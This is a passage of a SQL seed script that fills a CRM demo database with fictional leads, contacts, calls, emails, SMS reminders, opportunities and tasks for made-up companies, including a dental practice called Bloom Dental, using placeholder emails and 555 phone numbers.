                     ' Reference ', 100000 + g.n, '.')
       END,
       IF(g.t IN (1, 3), g.cphone, NULL),
       IF(g.t = 3, '+1 (646) 555-0147', NULL),
       IF(g.t = 1, CASE g.oc WHEN 'answered' THEN 45 + g.n % 900 WHEN 'voicemail' THEN 20 + g.n % 30 ELSE 0 END, NULL),
       IF(g.t = 1, g.oc, NULL),
       IF(g.t = 4, CONCAT(ELT(g.v % 5 + 1, 'Account review', 'Quarterly check-in', 'Training session', 'Budget planning', 'Support review'),
                          ' #', g.n DIV 5), NULL),
       IF(g.t = 4, g.at, NULL),
       IF(g.t = 4, g.at + INTERVAL 30 MINUTE, NULL),
       IF(g.t = 4, CONCAT(g.cmail, ', ', g.umail), NULL),
       IF(g.t = 4, ELT(g.n % 3 + 1, 'Initech, 4120 Freidrich Lane, Austin', 'Phone', 'Zoom'), NULL)
FROM (
  SELECT seq AS n, seq % 5 AS t, seq DIV 5 AS v, (seq DIV 5) % 2 = 1 AS isout,
         ELT(seq % 7 + 1, 'answered', 'answered', 'voicemail', 'answered', 'no-answer', 'answered', 'answered') AS oc,
         @init_end - INTERVAL (100000 - seq) * 3153 SECOND AS at,
         CASE WHEN seq <= 30000 THEN @dan WHEN seq % 2 THEN @ada ELSE @ben END AS u,
         CASE WHEN seq <= 30000 THEN 'dan@northwind.test' WHEN seq % 2 THEN 'ada@northwind.test' ELSE 'ben@northwind.test' END AS umail,
         IF(seq % 3 = 0, @e_tom, @e_joanna) AS cmail,
         IF(seq % 3 = 0, @p_tom, @p_joanna) AS cphone
  FROM seq_1_to_100000
) g;

UPDATE leads SET date_updated = @init_end, updated_by = @ada WHERE id = @initech;

-- ---------------------------------------------------------------------------
-- Bloom Dental (b2c): each patient is a lead with exactly one contact of the
-- same name, one email and one phone each.
-- ---------------------------------------------------------------------------

CREATE TEMPORARY TABLE demo_bd (
  no INT PRIMARY KEY, name VARCHAR(255), email VARCHAR(254), phone VARCHAR(40), status VARCHAR(20),
  insurance VARCHAR(40), dentist VARCHAR(60), description TEXT
);
INSERT INTO demo_bd VALUES
 (1, 'Emily Carter', 'emily.carter@mailbox.example', '+1 (310) 555-0121', 'Active', 'Delta Dental', 'Dr. Patel', 'Prefers early morning appointments.'),
 (2, 'Marcus Johnson', 'marcus.j@inbox.example', '+1 (310) 555-0148', 'Booked', 'Cigna', 'Dr. Nguyen', 'First cleaning booked; nervous about X-rays.'),
 (3, 'Sofia Hernández', 'sofia.hernandez@correo.example', '+1 (424) 555-0163', 'Active', 'Aetna', 'Dr. Patel', 'Prefers Spanish-speaking staff.'),
 (4, 'Liam O''Brien', 'liam.obrien@mailbox.example', '+1 (213) 555-0109', 'Lapsed', 'Self-pay', NULL, 'No visit in over a year; two reminders sent.'),
 (5, 'Hannah Kim', 'hannah.kim@inbox.example', '+1 (310) 555-0185', 'New Patient', 'MetLife', NULL, 'Referred by Emily Carter.'),
 (6, 'Noah Patel', 'noah.patel@mailbox.example', '+1 (424) 555-0117', 'Active', 'Delta Dental', 'Dr. Nguyen', 'Invisalign consultation done.'),
 (7, 'Grace Thompson', 'grace.t@inbox.example', '+1 (213) 555-0152', 'Booked', 'Cigna', 'Dr. Patel', 'Crown fitting scheduled.'),
 (8, 'Ethan Nguyen', 'ethan.nguyen@mailbox.example', '+1 (310) 555-0176', 'New Patient', 'Self-pay', NULL, 'Found us through the website.'),
 (9, 'Olivia Rossi', 'olivia.rossi@inbox.example', '+1 (424) 555-0194', 'Active', 'Aetna', 'Dr. Nguyen', 'Whitening package, second session pending.'),
 (10, 'Jacob Goldberg', 'jacob.goldberg@mailbox.example', '+1 (213) 555-0130', 'Lapsed', 'MetLife', 'Dr. Patel', 'Moved to San Diego; may not return.'),
 (11, 'Ava Martinez', 'ava.martinez@inbox.example', '+1 (310) 555-0158', 'Booked', 'Delta Dental', 'Dr. Patel', 'Child patient; parent is the contact on file.'),
 (12, 'Daniel Wu', 'daniel.wu@mailbox.example', '+1 (424) 555-0141', 'New Patient', 'Cigna', NULL, 'Emergency visit for a chipped tooth.');

INSERT INTO leads (pid, organization_id, name, url, description, status_id, created_by, updated_by, date_created, date_updated)
SELECT ll_id('lead_'), @bd, d.name, NULL, d.description, s.id, @cora, @cora,
       @now - INTERVAL (200 - d.no * 12) DAY, @now - INTERVAL (200 - d.no * 12) DAY
FROM demo_bd d JOIN lead_statuses s ON s.organization_id = @bd AND s.label = d.status
ORDER BY d.no;

CREATE TEMPORARY TABLE demo_bdc (no INT PRIMARY KEY, lead_id BIGINT UNSIGNED, contact_id BIGINT UNSIGNED NULL);
INSERT INTO demo_bdc (no, lead_id)
SELECT d.no, l.id FROM demo_bd d JOIN leads l ON l.organization_id = @bd AND l.name = d.name;

INSERT INTO contacts (pid, organization_id, lead_id, name, title, date_created)
SELECT ll_id('cont_'), @bd, l.id, l.name, NULL, l.date_created
FROM demo_bdc b JOIN leads l ON l.id = b.lead_id ORDER BY b.no;
UPDATE demo_bdc b JOIN contacts c ON c.lead_id = b.lead_id SET b.contact_id = c.id;

INSERT INTO contact_emails (organization_id, contact_id, email, type, position)
SELECT @bd, b.contact_id, d.email, 'home', 0 FROM demo_bdc b JOIN demo_bd d ON d.no = b.no;
INSERT INTO contact_phones (organization_id, contact_id, phone, phone_digits, type, position)
SELECT @bd, b.contact_id, d.phone, REGEXP_REPLACE(d.phone, '[^0-9]', ''), 'mobile', 0
FROM demo_bdc b JOIN demo_bd d ON d.no = b.no;

INSERT INTO lead_custom_values (organization_id, lead_id, field_id, value, value_user)
SELECT @bd, b.lead_id, @bcf_insurance, d.insurance, NULL FROM demo_bdc b JOIN demo_bd d ON d.no = b.no
UNION ALL
SELECT @bd, b.lead_id, @bcf_dentist, d.dentist, NULL FROM demo_bdc b JOIN demo_bd d ON d.no = b.no WHERE d.dentist IS NOT NULL
UNION ALL
SELECT @bd, b.lead_id, @bcf_cleaning, DATE_FORMAT(@today - INTERVAL (20 + b.no * 23) DAY, '%Y-%m-%d'), NULL
FROM demo_bdc b JOIN demo_bd d ON d.no = b.no WHERE d.status IN ('Active', 'Lapsed');

-- Per patient: a booking call, an SMS reminder, a note; every other one an email too.
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, subject, sender, recipients_to, body_text, phone, local_phone, duration, outcome)
SELECT ll_id('acti_'), @bd, g.lead_id, ELT(g.s, 'call', 'sms', 'note', 'email'), @cora, g.contact_id,
       g.at, g.at, g.at,
       CASE g.s WHEN 1 THEN 'incoming' WHEN 2 THEN 'outgoing' WHEN 4 THEN 'outgoing' ELSE NULL END,
       IF(g.s = 4, 'Your visit at Bloom Dental', NULL),
       IF(g.s = 4, 'cora@bloomdental.test', NULL),
       IF(g.s = 4, g.email, NULL),
       CASE g.s
         WHEN 1 THEN CONCAT(g.first, ' called to book ', ELT(g.no % 4 + 1, 'a cleaning', 'a checkup', 'a follow-up visit', 'a consultation'),
                            '. Confirmed insurance details and booked the first available morning slot.')
         WHEN 2 THEN CONCAT('Hi ', g.first, ', this is Bloom Dental reminding you of your appointment tomorrow at ',
                            ELT(g.no % 3 + 1, '9:00 am', '11:30 am', '3:15 pm'), '. Reply C to confirm or call us to reschedule.')
         WHEN 3 THEN ELT(g.no % 4 + 1, 'Patient asked about payment plans for larger treatments.',
                         'Allergic to latex; noted in the chart and told the hygienist.',
                         'Prefers text reminders over phone calls.',
                         'Wants to bring the whole family next time; check family pricing.')
         ELSE CONCAT('Dear ', g.first, ',\n\nThank you for visiting Bloom Dental. Your next recommended checkup is in six months; we will send you a reminder two weeks before. If you have any questions about your treatment plan, just reply to this email or call us.\n\nWarm regards,\nCora Lindqvist\nBloom Dental')
       END,
       IF(g.s IN (1, 2), g.phone, NULL),
       IF(g.s = 2, '+1 (310) 555-0100', NULL),
       IF(g.s = 1, 180 + g.no * 17, NULL),
       IF(g.s = 1, 'answered', NULL)
FROM (
  SELECT b.no, b.lead_id, b.contact_id, s.seq AS s, d.email, d.phone, SUBSTRING_INDEX(d.name, ' ', 1) AS first,
         @day0 - INTERVAL (200 - b.no * 12 - s.seq * 3) DAY + INTERVAL (16 * 60 + (b.no * 23 + s.seq * 41) % 180) MINUTE AS at
  FROM demo_bdc b
  JOIN demo_bd d ON d.no = b.no
  JOIN seq_1_to_4 s ON s.seq <= 3 + b.no % 2
) g;

INSERT INTO activities (pid, organization_id, lead_id, type, user_id, activity_at, date_created, date_updated,
  old_status_id, new_status_id, old_status_label, new_status_label)
SELECT ll_id('acti_'), @bd, b.lead_id, 'lead_status_change', @cora,
       @day0 - INTERVAL (200 - b.no * 12 - 10) DAY + INTERVAL 22 HOUR,
       @day0 - INTERVAL (200 - b.no * 12 - 10) DAY + INTERVAL 22 HOUR,
       @day0 - INTERVAL (200 - b.no * 12 - 10) DAY + INTERVAL 22 HOUR,
       @bls_new, l.status_id, 'New Patient', d.status
FROM demo_bdc b JOIN demo_bd d ON d.no = b.no JOIN leads l ON l.id = b.lead_id
WHERE d.status <> 'New Patient';

INSERT INTO opportunities (pid, organization_id, lead_id, status_id, value, value_currency, value_period,
  confidence, expected_date, user_id, contact_id, note, date_created, date_updated)
SELECT ll_id('oppo_'), @bd, b.lead_id, o.st, o.v, 'USD', 'one_time', o.conf, @today + INTERVAL o.d DAY, @cora, b.contact_id, o.note,
       @now - INTERVAL 30 DAY, @now - INTERVAL 10 DAY
FROM (
  SELECT 6 AS no, @bos_proposal AS st, 480000 AS v, 60 AS conf, 21 AS d, 'Invisalign full treatment' AS note
  UNION ALL SELECT 7, @bos_won, 125000, 100, -5, 'Crown, upper left molar'
  UNION ALL SELECT 9, @bos_active, 45000, 40, 35, 'Whitening package, second session'
) o JOIN demo_bdc b ON b.no = o.no;

INSERT INTO tasks (pid, organization_id, lead_id, text, due_date, assigned_to, contact_id, is_complete, date_created)
SELECT ll_id('task_'), @bd, b.lead_id, t.txt, @today + INTERVAL t.d DAY, @cora, b.contact_id, 0, @now - INTERVAL 3 DAY
FROM (
  SELECT 4 AS no, 'Call Liam about his overdue checkup' AS txt, -2 AS d
  UNION ALL SELECT 5, 'Send the new patient forms to Hannah', 1
  UNION ALL SELECT 12, 'Follow up on the chipped tooth repair', 7
) t JOIN demo_bdc b ON b.no = t.no;

UPDATE leads l
JOIN (SELECT a.lead_id, MAX(a.activity_at) AS m FROM activities a WHERE a.organization_id = @bd GROUP BY a.lead_id) x ON x.lead_id = l.id
SET l.date_updated = GREATEST(l.date_created, x.m);

DROP TEMPORARY TABLE demo_nw, demo_names, demo_nwc, demo_mail, demo_bd, demo_bdc;

-- Activities per lead and type (003_activity_counts.sql), kept by every write after this.
INSERT INTO lead_activity_counts (organization_id, lead_id, type, custom_type_id, n)
SELECT organization_id, lead_id, type, COALESCE(custom_type_id, 0), COUNT(*)
  FROM activities WHERE deleted_at IS NULL
 GROUP BY organization_id, lead_id, type, COALESCE(custom_type_id, 0);

COMMIT;
